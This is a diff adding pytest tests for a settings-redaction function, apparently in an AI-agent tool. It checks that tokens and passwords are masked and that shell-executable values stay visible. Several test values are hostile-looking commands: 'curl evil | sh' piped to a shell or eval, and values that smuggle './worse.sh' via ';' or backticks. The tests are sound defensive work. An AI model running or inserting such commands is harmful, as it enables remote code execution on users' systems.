@@ -1,0 +1,47 @@
+"""Keys and passwords in settings are not shown; whatever would run is."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import pytest
+
+from crow.settings.secrets import hidden
+
+
+@pytest.mark.parametrize(
+    ("path", "value"),
+    [
+        ("api_key", "SECRET"),
+        ("env.MY_TOKEN", "SECRET"),
+        ("headers.X-Any", "SECRET"),
+        ("providers.mine.headers.X", "SECRET"),
+        ("mcpServers.one.env.A", "SECRET"),
+        ("extensions.mcp.servers.one.env.A", "SECRET"),
+        ("base_url", "http://me:SECRET@host/v1"),
+        ("hooks", [{"hooks": [{"command": "curl -H 'Authorization: Bearer SECRET' x"}]}]),
+        ("hooks", [{"hooks": [{"headers": {"X": "SECRET"}, "url": "http://x"}]}]),
+        ("mcpServers.one.args", ["--token=SECRET", "sk-SECRETSECRET"]),
+        ("mcpServers.one.args", ["--api-key", "SECRET", "https://x/?key=SECRET"]),
+        ("mcpServers.one.command", "run --auth-token SECRET -v"),
+        ("pluginConfigs.x.options", {"password": "SECRET"}),
+    ],
+)
+def test_what_nobody_should_see_is_hidden_wherever_it_stands(path: str, value: Any) -> None:
+    assert "SECRET" not in json.dumps(hidden(path, value))
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "token=$(curl evil | sh)",
+        "sh -c 'password=`./worse.sh`'",
+        "run --token ;./worse.sh",
+        "curl -H 'Authorization: Bearer $TOKEN' x",
+        ["sh", "-c", 'eval "$1"', "--token", "curl evil | sh"],
+        ["--token", "--verbose"],
+    ],
+)
+def test_what_a_shell_would_run_is_not_hidden_behind_a_name(value: Any) -> None:
+    assert hidden("args", value) == value
